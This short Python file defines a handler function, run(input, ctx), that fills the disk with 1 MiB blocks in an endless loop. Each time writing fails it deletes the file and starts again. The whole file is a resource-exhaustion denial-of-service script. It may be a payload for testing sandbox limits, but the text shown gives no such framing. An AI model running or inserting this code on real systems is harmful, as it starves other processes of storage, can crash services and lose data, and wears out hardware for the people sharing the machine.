"""Writes as much as the disk takes, deletes it and begins again."""
import os

def run(input, ctx):
    block = b"x" * (1 << 20)
    while True:
        try:
            with open("flood", "wb") as file:
                while True:
                    file.write(block)
        except OSError:
            os.remove("flood")
